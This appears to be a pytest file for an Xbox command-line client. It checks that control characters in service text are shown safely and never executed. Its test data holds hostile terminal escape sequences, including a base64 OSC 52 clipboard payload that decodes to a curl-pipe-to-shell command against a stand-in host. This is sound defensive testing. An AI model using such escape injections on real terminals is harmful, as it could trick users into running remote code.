"""Text from the service never acts on the terminal (issue 21): message text other users
write, gamertags, bios, titles and error text reach every table and message with their
control characters shown (``^[``), never executed; ``--json`` keeps them exact."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator

import pytest
from click.testing import CliRunner, Result

from xbox.cli import cli
from xbox.cli.output import Output, terminal_safe
from xbox.sandbox import JOE_XUID, Sandbox
from xbox.sandbox.world_services import services_world

from .cli_helpers import cli_sandbox
from .test_messages import friends_written_to

# What an attacker writes in a message, a bio or a title: set the window title (OSC 0),
# write the clipboard (OSC 52), clear the screen, hide what came before with a carriage
# return, a C1 CSI (U+009B, ESC [ for many terminals), a bell, a right-to-left override.
OSC_TITLE = "\x1b]0;pwned\x07"
OSC_52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
CLEAR = "\x1b[2J\x1b[H"
HOSTILE = f"hi {OSC_TITLE}{OSC_52}{CLEAR}\rfake line\x9b31m\x08\x7f\u202eevil"
# Every character a terminal acts on, as the output layer must never let one through.
ACTING = ["\x1b", "\x07", "\r", "\x9b", "\x08", "\x7f", "\u202e"]


def _run(sb: Sandbox, *args: str) -> Result:
    return CliRunner().invoke(cli, ["--sandbox", *args], obj=sb, catch_exceptions=False)


def _acts(text: str) -> list[str]:
    return [c for c in ACTING if c in text]


@pytest.fixture
def sb() -> Sandbox:
    return cli_sandbox()


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Output believes stdout and stderr are a terminal (tables aligned, titles bold)."""
    monkeypatch.setattr(Output, "stdout_is_tty", staticmethod(lambda: True))
    monkeypatch.setattr(Output, "stderr_is_tty", staticmethod(lambda: True))
    monkeypatch.setattr(Output, "width", staticmethod(lambda: 200))
    monkeypatch.setenv("NO_COLOR", "1")
    yield


def test_terminal_safe_shows_every_control_character() -> None:
    shown = terminal_safe(HOSTILE)
    assert _acts(shown) == []
    assert shown == ("hi ^[]0;pwned^G^[]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==^G^[[2J^[[H"
                     "^Mfake line^[[31m^H^?<U+202E>evil")
    assert terminal_safe("Halo 5: Guardians\ttab\nnewline ✓ 😀") == (
        "Halo 5: Guardians\ttab\nnewline ✓ 😀")  # tab, newline and any printable text stay


@pytest.mark.parametrize("tty", [True, False], ids=["terminal", "piped"])
def test_message_text_other_users_write_never_reaches_the_terminal_raw(
        sb: Sandbox, tty: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    if tty:
        monkeypatch.setattr(Output, "stdout_is_tty", staticmethod(lambda: True))
        monkeypatch.setattr(Output, "width", staticmethod(lambda: 300))
    friend = friends_written_to(sb)[0]
    conv = services_world(sb).conversation_with(JOE_XUID, friend)
    assert conv is not None
    conv.messages[-1].text = HOSTILE
    one = _run(sb, "messages", friend)
    inbox = _run(sb, "messages")
    for result in (one, inbox):
        assert result.exit_code == 0, result.output
        assert _acts(result.output) == [], result.output
    assert "^[]52;c;" in one.output and "^[]0;pwned^G" in one.output  # shown, visibly
    # --json is exact: the text as the service sent it, escaped by JSON only.
    exact = _run(sb, "--json", "messages", friend)
    assert "\x1b" not in exact.output
    assert json.loads(exact.output)[-1]["text"] == HOSTILE


def test_gamertags_bios_and_titles_are_shown_safely(sb: Sandbox, terminal: None) -> None:
    joe = sb.world.joe
    joe.bio = f"bio {OSC_52}"
    joe.location = f"somewhere{CLEAR}"
    clip = next(c for c in joe.clips if c.state == "Published")
    clip.title = type(clip.title)(clip.title.title_id, f"Halo{OSC_TITLE}", clip.title.scid)
    sb.world.changed()
    profile = _run(sb, "profile", "JoeAlcorn")
    clips = _run(sb, "clips", "JoeAlcorn", "--limit", "200")
    for result in (profile, clips):
        assert result.exit_code == 0, result.output
        assert _acts(result.output) == [], result.output
    assert "bio ^[]52;c;" in profile.output
    assert "Halo^[]0;pwned^G" in clips.output
    assert json.loads(_run(sb, "--json", "profile", "JoeAlcorn").output)[0]["bio"] == joe.bio


def test_an_error_quoting_the_service_is_one_safe_line(sb: Sandbox) -> None:
    # "did you mean" names gamertags the search service sent.
    victim = sb.world.accounts[10]
    victim.gamertag = "Evilz\x1b\x07"
    sb.world.by_gamertag[victim.gamertag.lower()] = victim
    result = CliRunner().invoke(cli, ["--sandbox", "profile", "Evilq"], obj=sb)
    assert result.exit_code == 3
    assert "did you mean: Evilz^[^G?" in result.output
    assert _acts(result.output) == [], result.output


def test_every_output_method_makes_text_safe(capsys: pytest.CaptureFixture[str],
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    for tty in (True, False):
        monkeypatch.setattr(Output, "stdout_is_tty", staticmethod(lambda tty=tty: tty))
        out = Output(json_mode=False)
        out.table(["A", "B"], [[HOSTILE, 1]], title=HOSTILE)
        out.fields([(HOSTILE, HOSTILE)], title=HOSTILE)
        out.line(HOSTILE)
        out.info(HOSTILE)
        out.error(HOSTILE)
        out.notice(HOSTILE)
        seen = capsys.readouterr()
        assert _acts(seen.out) == [] and _acts(seen.err) == [], seen
        assert seen.out.count("^[]52;c;") + seen.err.count("^[]52;c;") >= 6


def test_text_no_encoding_can_print_is_shown_and_json_keeps_it_exact() -> None:
    # A lone surrogate ("\\ud800" in the service's JSON) cannot be written as UTF-8: printed
    # as it is, it ended the command with UnicodeEncodeError. (The sandbox cannot serve one:
    # its own JSON is UTF-8; the output layer is run as the command runs it, in a process.)
    code = (
        "from xbox.cli.output import Output, Col\n"
        "text = 'lone \\ud800 surrogate'\n"
        "out = Output(json_mode=False)\n"
        "out.table([Col('Message', free=True)], [[text]], title=text)\n"
        "out.line(text); out.error(text)\n"
        "Output(json_mode=True).json([{'text': text}])\n")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=60,
                          env={**os.environ, "PYTHONIOENCODING": "utf-8"})
    assert done.returncode == 0, done.stderr.decode()
    out, err = done.stdout.decode(), done.stderr.decode()
    assert out.count("lone <U+D800> surrogate") == 2 and "lone <U+D800> surrogate" in err
    assert json.loads(out[out.index("["):])[0]["text"] == "lone \ud800 surrogate"  # exact
